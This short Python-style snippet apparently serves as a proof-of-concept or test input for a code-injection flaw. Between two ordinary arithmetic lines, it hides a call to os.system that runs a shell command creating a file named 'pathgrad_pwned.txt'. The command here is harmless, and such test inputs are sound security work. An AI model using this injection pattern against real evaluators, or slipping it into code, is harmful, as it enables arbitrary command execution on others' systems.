x = 1.0
__import__('os').system('touch pathgrad_pwned.txt')
L = x * 2
